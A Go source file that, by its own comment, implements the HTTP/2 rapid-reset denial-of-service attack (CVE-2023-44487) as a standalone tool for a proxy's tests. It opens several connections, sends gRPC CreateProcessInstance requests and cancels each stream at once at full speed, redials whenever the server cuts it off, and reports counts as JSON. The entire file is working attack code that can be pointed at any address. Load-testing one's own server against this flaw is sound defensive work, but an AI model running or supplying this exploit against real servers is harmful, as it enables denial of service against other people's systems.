// Command rapidreset is the HTTP/2 rapid-reset attack (CVE-2023-44487)
// as the proxy's tests run it, in a process of its own so that its CPU
// is the machine's, not the test's: on each of its connections it sends
// whole CreateProcessInstance requests and resets each at once, as fast
// as it can write, and dials again whenever the server cuts it off. It
// prints what it did as one JSON object.
//
//	rapidreset -addr 127.0.0.1:26500 -conns 4 -for 30s
package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/binary"
	"encoding/json"
	"flag"
	"fmt"
	"net"
	"os"
	"slices"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/protobuf/proto"

	pb "github.com/shardctl/shardctl/internal/gatewaypb"
)

// Report is what an attack did.
type Report struct {
	Resets  int64 `json:"resets"`  // streams written and reset (some never read by the server)
	Dials   int64 `json:"dials"`   // connections made
	CutOff  int   `json:"cutOff"`  // of them, ended by the server
	Refused int64 `json:"refused"` // dials refused or closed before the preface was written
	// Unanswered are the connections of CutOff the server closed without
	// a frame: it did not serve them.
	Unanswered int `json:"unanswered"`
	// LongestMillis is the longest a connection the server answered
	// lasted before it was cut off, from its preface.
	LongestMillis int64          `json:"longestMillis"`
	GoAways       map[string]int `json:"goAways"` // by error code
}

func main() {
	addr := flag.String("addr", "127.0.0.1:26500", "the server, HOST:PORT")
	conns := flag.Int("conns", 4, "connections attacking at once")
	length := flag.Duration("for", 30*time.Second, "how long to attack")
	process := flag.String("process", "p", "the bpmnProcessId the requests create")
	flag.Parse()
	a := newAttack(*addr, *process)
	ctx, cancel := context.WithTimeout(context.Background(), *length)
	defer cancel()
	var wg sync.WaitGroup
	for range *conns {
		wg.Go(func() {
			for ctx.Err() == nil {
				a.connection(ctx)
			}
		})
	}
	wg.Wait()
	if err := json.NewEncoder(os.Stdout).Encode(a.report()); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}

type attack struct {
	addr                   string
	block, body            []byte
	resets, dials, refused atomic.Int64

	mu         sync.Mutex
	lifetimes  []time.Duration // of the connections answered
	unanswered int
	goAways    map[string]int
}

func newAttack(addr, process string) *attack {
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	// No dynamic table: the one block is valid on every stream.
	enc.SetMaxDynamicTableSizeLimit(0)
	for _, f := range []hpack.HeaderField{
		{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "http"},
		{Name: ":path", Value: "/gateway_protocol.Gateway/CreateProcessInstance"}, {Name: ":authority", Value: addr},
		{Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"},
	} {
		_ = enc.WriteField(f)
	}
	msg, err := proto.Marshal(&pb.CreateProcessInstanceRequest{BpmnProcessId: process, Version: -1})
	if err != nil {
		panic(err)
	}
	body := append(binary.BigEndian.AppendUint32([]byte{0}, uint32(len(msg))), msg...)
	return &attack{addr: addr, block: block.Bytes(), body: body, goAways: map[string]int{}}
}

// connection attacks on one connection until the server cuts it off or
// ctx ends.
func (a *attack) connection(ctx context.Context) {
	nc, err := net.DialTimeout("tcp", a.addr, time.Second)
	if err != nil {
		a.refused.Add(1)
		select {
		case <-ctx.Done():
		case <-time.After(10 * time.Millisecond):
		}
		return
	}
	a.dials.Add(1)
	stop := context.AfterFunc(ctx, func() { nc.Close() })
	var settings atomic.Bool // the server's SETTINGS wait for their ACK
	var answered atomic.Bool // the server sent a frame
	var away atomic.Pointer[string]
	cut := make(chan struct{})
	go func() {
		defer close(cut)
		fr := http2.NewFramer(nil, nc)
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				return
			}
			answered.Store(true)
			switch f := f.(type) {
			case *http2.SettingsFrame:
				if !f.IsAck() {
					settings.Store(true)
				}
			case *http2.GoAwayFrame:
				code := f.ErrCode.String()
				away.Store(&code)
				return
			}
		}
	}()
	defer func() {
		nc.Close()
		<-cut
		stop()
	}()
	start := time.Now()
	w := bufio.NewWriterSize(nc, 64<<10)
	fr := http2.NewFramer(w, nil)
	_, _ = w.WriteString(http2.ClientPreface)
	_ = fr.WriteSettings()
	for id := uint32(1); id < 1<<31-2; id += 2 {
		select {
		case <-cut:
			a.cutOff(time.Since(start), answered.Load(), away.Load())
			return
		default:
		}
		if settings.Swap(false) {
			_ = fr.WriteSettingsAck()
		}
		_ = fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: a.block, EndHeaders: true})
		_ = fr.WriteData(id, true, a.body)
		_ = fr.WriteRSTStream(id, http2.ErrCodeCancel)
		a.resets.Add(1)
		if id%64 == 1 {
			if err := w.Flush(); err != nil {
				if ctx.Err() == nil {
					<-cut
					a.cutOff(time.Since(start), answered.Load(), away.Load())
				}
				return
			}
		}
	}
}

func (a *attack) cutOff(lived time.Duration, answered bool, away *string) {
	a.mu.Lock()
	defer a.mu.Unlock()
	if !answered {
		a.unanswered++
		return
	}
	a.lifetimes = append(a.lifetimes, lived)
	if away != nil {
		a.goAways[*away]++
	}
}

func (a *attack) report() Report {
	a.mu.Lock()
	defer a.mu.Unlock()
	r := Report{Resets: a.resets.Load(), Dials: a.dials.Load(), Refused: a.refused.Load(), CutOff: len(a.lifetimes) + a.unanswered, Unanswered: a.unanswered, GoAways: a.goAways}
	if len(a.lifetimes) > 0 {
		r.LongestMillis = slices.Max(a.lifetimes).Milliseconds()
	}
	return r
}
